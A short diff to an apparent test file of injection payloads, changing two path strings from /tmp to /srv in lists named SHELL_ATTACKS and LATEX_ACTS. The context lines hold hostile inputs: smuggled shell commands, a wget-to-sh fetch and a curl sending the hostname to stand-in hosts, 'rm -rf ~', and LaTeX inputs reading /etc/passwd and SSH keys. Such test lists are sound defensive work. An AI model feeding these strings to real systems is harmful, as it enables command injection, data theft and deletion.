@@ -71,7 +71,7 @@ SHELL_ATTACKS = [
     "a' ; cat /etc/passwd #",
     "a'; id -a; echo '",
     '"; wget http://x.example/a -O- | sh; echo "',
-    "> /tmp/x",
+    "> /srv/x",
     "8.8.8.8 & sleep 10",
     "x\nrm -rf ~",
     "$(curl http://a.example/$(hostname))",
@@ -231,7 +231,7 @@ LATEX_ACTS = [
     "\\include{~/.ssh/id}",
     "\\href{javascript:alert(1)}{x}",
     "\\begin{filecontents}{a}x\\end{filecontents}",
-    "\\usepackage{/tmp/x}",
+    "\\usepackage{/srv/x}",
     "\\lstinputlisting[language=C]{/etc/passwd}",
 ]
 LATEX_PLAIN = [
